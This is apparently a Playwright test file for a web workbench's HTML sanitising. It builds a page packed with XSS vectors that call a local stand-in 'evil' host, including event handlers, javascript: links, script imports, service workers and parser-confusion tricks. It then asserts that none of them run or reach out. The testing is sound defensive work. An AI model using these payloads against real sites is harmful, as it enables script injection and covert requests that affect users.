"""A page that tries to run and to reach out, shown in the workbench: nothing runs, nothing is asked for."""

# ruff: noqa: E501 - one way out a line

from __future__ import annotations

import time
from typing import TYPE_CHECKING, Any

import pytest
from tests.browser.serving import canary

if TYPE_CHECKING:
    from collections.abc import Callable

    Open = Callable[..., Any]

WORDS = "The brook runs past the mill and under the old bridge, and nobody has ever counted its stones. " * 3


def hostile(evil: str) -> str:
    """Return a page with every way out that we know."""
    return f"""<!DOCTYPE html><html><head><title>Mill</title><base href="{evil}/base/">
<meta http-equiv="refresh" content="0;url={evil}/refresh"><link rel="stylesheet" href="{evil}/style.css">
<link rel="preload" as="image" href="{evil}/preload"><link rel="dns-prefetch" href="{evil}"><link rel="icon" href="{evil}/icon">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'; report-uri {evil}/csp">
<style>@import url({evil}/import); @font-face {{ font-family: x; src: url({evil}/font) }}
body {{ background: url({evil}/body); font-family: x }} p::before {{ content: url({evil}/before) }}</style>
<script>parent.hacked = top.hacked = window.hacked = 1; fetch("{evil}/script")</script>
<script src="{evil}/src.js"></script><script type="module">import "{evil}/module.js"</script>
<script>navigator.serviceWorker.register("{evil}/worker.js"); new WebSocket("ws://evil")</script></head>
<body onload="top.hacked=2" background="{evil}/background" onpageshow="top.hacked=3">
<h1 style="background:url({evil}/h1)">Mill</h1>
<p style="background-image:\\75rl({evil}/escaped)" onmouseover="top.hacked=4" onclick="top.hacked=5">{WORDS}</p>
<p style="background:image-set('{evil}/set' 1x); list-style-image: url('{evil}/list')">{WORDS}</p>
<p><a id="link" href="javascript:top.hacked=6">press here for the whole story of the mill and its stones</a>
<a href="{evil}/ping" ping="{evil}/pinged" target="_top">and here for the bridge</a></p>
<img src="{evil}/img" srcset="{evil}/srcset 2x" onerror="top.hacked=7" loading="eager"><img src=x onerror=top.hacked=8>
<picture><source srcset="{evil}/picture"><img src="{evil}/picture-img"></picture>
<iframe src="{evil}/iframe"></iframe><iframe srcdoc="<script>top.hacked=9</script><img src='{evil}/srcdoc'>"></iframe>
<object data="{evil}/object"></object><embed src="{evil}/embed"><video src="{evil}/video" poster="{evil}/poster" autoplay></video>
<audio src="{evil}/audio" autoplay></audio><track src="{evil}/track">
<svg onload="top.hacked=10"><script>top.hacked=11</script><image href="{evil}/svg-image"/><use href="{evil}/use#a"/>
<a xlink:href="javascript:top.hacked=12"><text>svg</text></a><foreignObject><img src="{evil}/foreign"></foreignObject></svg>
<math><mtext><script>top.hacked=13</script></mtext><maction actiontype="statusline" xlink:href="javascript:top.hacked=14">x</maction></math>
<form action="{evil}/form" id="f"><input autofocus onfocus="top.hacked=15" name="x"><button formaction="{evil}/button">send the form about the mill</button></form>
<details open ontoggle="top.hacked=16"><summary>More about the stones of the mill</summary>{WORDS}</details>
<template><img src="{evil}/template"></template><noscript><img src="{evil}/noscript"></noscript>
<textarea></textarea><title></title><img src="{evil}/after-title" onerror="top.hacked=17">
<noembed><img title="</noembed><img src={evil}/noembed onerror=top.hacked=18>"></noembed>
<xmp><img title="</xmp><img src={evil}/xmp onerror=top.hacked=19>"></xmp>
<table background="{evil}/table"><tr><td background="{evil}/cell">cell</td></tr></table>
<marquee onstart="top.hacked=20">moving words about the mill</marquee><div style="behavior:url({evil}/behaviour)">x</div>
<input type="image" src="{evil}/input"><body onhashchange="top.hacked=21"><applet code="{evil}/applet"></applet>
<p>{WORDS}</p></body></html>"""


def test_the_page_is_hostile_when_opened_as_it_is(chromium: Any) -> None:
    with canary() as (evil, asked):
        page = chromium.new_page()
        # Without the refresh, which would lead to an empty page that is not hacked.
        page.set_content(hostile(evil).replace('"refresh"', '"other"'), wait_until="domcontentloaded")
        deadline = time.monotonic() + 20
        while not (page.evaluate("window.hacked") and len(set(asked)) > 10):
            assert time.monotonic() < deadline, asked
            page.wait_for_timeout(100)
        page.close()


@pytest.mark.parametrize("view", ["look", "compare", "teach"])
def test_nothing_runs_and_nothing_is_asked_for(open_page: Open, address: str, view: str) -> None:
    with canary() as (evil, asked):
        page = open_page(view)
        requested: list[str] = []
        page.context.on("request", lambda request: requested.append(request.url))
        page.context.on("page", lambda opened: requested.append(opened.url))
        page.check("input[value=html]", force=True)
        page.fill("#html", hostile(evil))
        page.press("#html", "Control+Enter")
        page.wait_for_selector(f"#{view}-result:not([hidden])")
        frame = page.frame_locator(f"#{view}-result iframe >> nth=0")
        frame.locator("mark.kept, html.pick mark").first.wait_for()
        frame.locator("mark", has_text="brook").first.hover()
        for text in ("press here", "and here", "send the form", "brook"):
            frame.locator("mark", has_text=text).first.click(force=True)
        page.wait_for_timeout(1500)
        assert all(url.startswith((f"{address}/", "about:srcdoc")) for url in requested)
        assert [url for url in requested if "/api/" in url]  # the log works
        assert page.evaluate("window.hacked") is None
        inner = page.query_selector(f"#{view}-result iframe").content_frame()
        assert inner.evaluate("window.hacked") is None
        assert (
            inner.evaluate("document.querySelectorAll('script, iframe, object, embed, base, link').length")
            == 0
        )
        assert page.evaluate("navigator.serviceWorker.getRegistrations().then((all) => all.length)") == 0
        assert page.url.startswith(address)
    assert asked == []


def test_results_are_shown_as_text(open_page: Open) -> None:
    page = open_page()
    page.check("input[value=html]", force=True)
    page.fill(
        "#html",
        f"<title>&lt;img src=x onerror=hacked=1&gt;</title><p>&lt;script&gt;hacked=1&lt;/script&gt; {WORDS}</p>",
    )
    page.press("#html", "Control+Enter")
    page.wait_for_selector("#look-result:not([hidden])")
    for form in ("text", "markdown", "html", "json", "fields"):
        page.click(f"#tab-{form}")
        assert page.locator("#panel script, #panel img, #result-title img").count() == 0
    assert page.evaluate("window.hacked") is None
